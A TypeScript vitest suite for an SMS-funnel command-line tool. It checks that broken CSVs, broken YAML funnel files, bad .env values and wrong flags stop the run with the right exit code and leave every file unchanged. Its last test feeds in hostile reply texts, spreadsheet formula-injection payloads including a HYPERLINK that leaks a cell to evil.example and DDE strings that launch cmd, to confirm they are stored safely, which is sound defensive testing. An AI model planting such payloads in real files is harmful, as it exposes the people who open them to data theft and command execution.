/**
 * A corpus of bad inputs an operator can leave behind — broken CSVs, broken funnel files, bad
 * `.env` values, wrong flags — each stops the run with its exit code and a message naming the
 * place, and changes NO file. Hostile reply texts are stored formula-safe and read back exactly.
 * Each case's first command runs the built binary (its exit status, no stack trace), the others
 * the same `main` in-process.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CANARY_TOKEN, contactsCsv, faultWorld, OUR_NUMBER, usNumber, type World } from '../helpers/world.js';

let ws: World;
let goodContacts: string;
let goodFunnel: string;
const phones = Array.from({ length: 6 }, (_, i) => usNumber('212', i));

beforeAll(async () => {
  ws = await faultWorld(new Date('2026-12-01T15:00:00Z'));
  writeFileSync(join(ws.root, 'leads.csv'), contactsCsv(phones));
  expect((await ws.run(['import', 'leads.csv'])).code).toBe(0);
  expect((await ws.run(['send'])).code).toBe(0);
  goodContacts = readFileSync(ws.path('contacts.csv'), 'utf8');
  goodFunnel = readFileSync(ws.funnelFile, 'utf8');
});
afterAll(async () => {
  expect(ws.everything()).not.toContain(CANARY_TOKEN);
  await ws.close();
});

/** Runs each command (the first through the binary); checks code, message, and that no file changed. */
async function refused(
  args: string[][],
  code: number,
  message: RegExp,
  env: Record<string, string | undefined> = {},
) {
  const before = ws.hashDataDir();
  const funnelBefore = readFileSync(ws.funnelFile, 'utf8');
  for (const [i, a] of args.entries()) {
    const r = await ws.run(a, { env, runs: i === 0 ? 'binary' : 'in-process' });
    expect(r.code, `${a.join(' ')}: ${r.stdout}${r.stderr}`).toBe(code);
    expect(r.stderr, a.join(' ')).toMatch(message);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(ws.hashDataDir(), a.join(' ')).toEqual(before);
  }
  expect(readFileSync(ws.funnelFile, 'utf8')).toBe(funnelBefore);
}

const everyDataCommand = [['send'], ['poll-replies'], ['categorize'], ['status'], ['send', '--dry-run']];
const contactsAt = (line: number) => new RegExp(`contacts\\.csv line ${line}\\b`);

describe('a broken contacts.csv: exit 65 naming the line, nothing changed', () => {
  // A reply recorded and one more waiting on the server: categorize and poll-replies read contacts.csv too.
  beforeAll(async () => {
    ws.server.injectInbound({ from: phones[0] as string, to: OUR_NUMBER, body: 'yes' });
    expect((await ws.run(['poll-replies'])).code).toBe(0);
    ws.server.injectInbound({ from: phones[1] as string, to: OUR_NUMBER, body: 'no thanks' });
    goodContacts = readFileSync(ws.path('contacts.csv'), 'utf8');
  });
  afterAll(() => writeFileSync(ws.path('contacts.csv'), goodContacts));

  test.each([
    ['an unclosed quote', () => goodContacts.replace('Pat1', '"Pat1'), contactsAt(3)],
    [
      'a duplicate header',
      () => goodContacts.replace('first_name', 'phone'),
      /line 1: the column name "phone" appears twice/,
    ],
    [
      'an Excel-mangled phone',
      () => goodContacts.replace(phones[2] as string, '2.12201E+10'),
      /line 4, column "phone".*turned into a number/,
    ],
    [
      'a wrong timestamp',
      () => goodContacts.replace('2026-12-03T15:00:00Z', '03/12/2026 15:00'),
      /line 2, column "next_action_at".*ISO 8601/,
    ],
  ])('%s', async (_name, broken, message) => {
    writeFileSync(ws.path('contacts.csv'), broken());
    await refused(everyDataCommand, 65, message);
  });

  test('binary junk', async () => {
    writeFileSync(ws.path('contacts.csv'), Buffer.from([0, 1, 2, 0xff, 0xfe, 0x20, 0x62, 0x69, 0x6e, 0x0a]));
    await refused(everyDataCommand, 65, /contacts\.csv line 1: the file is not UTF-8 text/);
  });

  test('text that is no contact list (no header with id and phone)', async () => {
    writeFileSync(ws.path('contacts.csv'), 'lorem ipsum dolor sit amet\n');
    await refused(everyDataCommand, 65, /contacts\.csv line 1: the header has no "id" column/);
  });

  test('a 1 MB cell', async () => {
    writeFileSync(ws.path('contacts.csv'), goodContacts.replace('Pat1', 'A'.repeat(1024 * 1024)));
    await refused(
      [['status'], ['send', '--dry-run'], ['send']],
      65,
      /contacts\.csv line 3, column "first_name"/,
    );
  });
});

describe('a broken import file: exit 65 naming the file, nothing changed', () => {
  test.each([
    [
      'an unclosed quote',
      `Phone,Name\n"${phones[0]},Ann\n+12125550101,Bob\n`,
      /bad\.csv:2: a quoted cell is never closed/,
    ],
    ['binary junk', Buffer.from([0, 1, 2, 0xff, 0xfe, 0, 0, 0x0a, 0x80, 0x81]), /bad\.csv/],
  ])('%s', async (_name, content, message) => {
    writeFileSync(join(ws.root, 'bad.csv'), content);
    await refused([['import', 'bad.csv']], 65, message);
  });

  test('a file that does not exist is named', async () => {
    await refused([['import', 'nowhere.csv']], 65, /nowhere\.csv/);
  });
});

describe('a broken funnel file: exit 65 naming file:line, nothing changed', () => {
  afterAll(() => writeFileSync(ws.funnelFile, goodFunnel));
  test.each([
    ['a YAML syntax error', () => goodFunnel.replace('wait: 2d ', 'wait: [2d '), /funnel\.yaml:19: YAML/],
    [
      'a tab for indentation',
      () => goodFunnel.replace('  - id: intro', '\t- id: intro'),
      /funnel\.yaml:16: YAML: Tabs/,
    ],
    [
      'a route to no step',
      () => goodFunnel.replace('goto: ask_time', 'goto: nowhere'),
      /funnel\.yaml:\d+: routes\.interested\.goto/,
    ],
    ['an empty file', () => '', /funnel\.yaml:1/],
  ])('%s', async (_name, broken, message) => {
    writeFileSync(ws.funnelFile, broken());
    await refused([['send'], ['send', '--dry-run'], ['categorize'], ['check']], 65, message);
  });

  // Documented (docs/funnel.md): send skips such contacts with the reason; `check` is the one that fails.
  test('a template field the contacts lack: check fails naming it', async () => {
    writeFileSync(ws.funnelFile, goodFunnel.replace('{{first_name|there}}, it', '{{nickname}}, it'));
    await refused([['check']], 65, /funnel\.yaml:\d+.*nickname/);
  });
});

describe('bad configuration: exit 78 naming the variable, nothing changed', () => {
  test.each([
    ['SEND_RATE', { SEND_RATE: 'fast' }],
    ['TWILIO_ACCOUNT_SID', { TWILIO_ACCOUNT_SID: 'AC-not-a-sid' }],
    ['TWILIO_AUTH_TOKEN', { TWILIO_AUTH_TOKEN: `${CANARY_TOKEN} x` }],
    ['TWILIO_PHONE_NUMBER', { TWILIO_PHONE_NUMBER: '555-1234' }],
    ['TWILIO_API_BASE_URL', { TWILIO_API_BASE_URL: 'ftp://example.com/api' }],
    ['SMSFUNNEL_NOW', { SMSFUNNEL_NOW: 'yesterday' }],
    ['SMSFUNNEL_LOCK_WAIT', { SMSFUNNEL_LOCK_WAIT: '-1' }],
  ])('%s', async (name, env) => {
    await refused([['send'], ['poll-replies']], 78, new RegExp(`${name}\\b`), env);
  });

  test('values from the .env file are checked the same way', async () => {
    writeFileSync(ws.envFile, 'SEND_RATE=-3\nTWILIO_TIMEOUT=forever\n');
    try {
      const env = { SEND_RATE: undefined, TWILIO_TIMEOUT: undefined };
      await refused([['send']], 78, /SEND_RATE is "-3"[\s\S]*TWILIO_TIMEOUT is "forever"/, env);
    } finally {
      writeFileSync(ws.envFile, '');
    }
  });

  test('credentials Twilio refuses: 78, naming the variables, never their values', async () => {
    await refused([['poll-replies'], ['poll-replies', '--verbose']], 78, /TWILIO_AUTH_TOKEN/, {
      TWILIO_AUTH_TOKEN: `${CANARY_TOKEN}-wrong`,
    });
  });
});

describe('wrong usage: exit 64', () => {
  test.each([
    [['send', '--limit', 'lots'], /--limit lots/],
    [['import'], /missing required argument 'file'/],
    [['import', 'leads.csv', '--default-country', 'XX'], /--default-country XX/],
    [['categorize', '--explain', 'x', '--test', 'y.csv'], /cannot be combined/],
    [['sned'], /unknown command 'sned'/],
  ])('%j', async (args, message) => {
    await refused([args as string[]], 64, message as RegExp);
  });
});

describe('hostile reply texts', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '-2+3+cmd|" /C notepad"!A0',
    '<script>alert("x")</script> & <b>yes</b>',
    "'=already quoted",
    '\tTab first, then a formula =1+1',
    '"quoted", with, commas\nand a second line',
  ];

  test('stored formula-safe in messages.csv and read back exactly', async () => {
    ws.server.faults({ clear: true });
    for (const [i, body] of hostile.entries())
      ws.server.injectInbound({ from: usNumber('646', 900 + i), to: OUR_NUMBER, body });
    expect((await ws.run(['poll-replies'])).code).toBe(0);
    expect((await ws.run(['categorize'])).code).toBe(0);

    const raw = readFileSync(ws.path('messages.csv'), 'utf8');
    // No cell a spreadsheet would run: after a separator or line start, never = + - @ or tab.
    const { messages } = await ws.load();
    const bodies = messages.filter((m) => m.event === 'received').map((m) => m.body);
    for (const body of hostile) expect(bodies).toContain(body);
    for (const cell of cells(raw)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

/** The cells of a CSV text, unquoted (enough of RFC 4180 for this check). */
function cells(text: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      out.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += ch;
  }
  return out.filter((c) => !/^[+-]?\d+(\.\d+)?$/.test(c)); // plain numbers and E.164 phones are safe
}
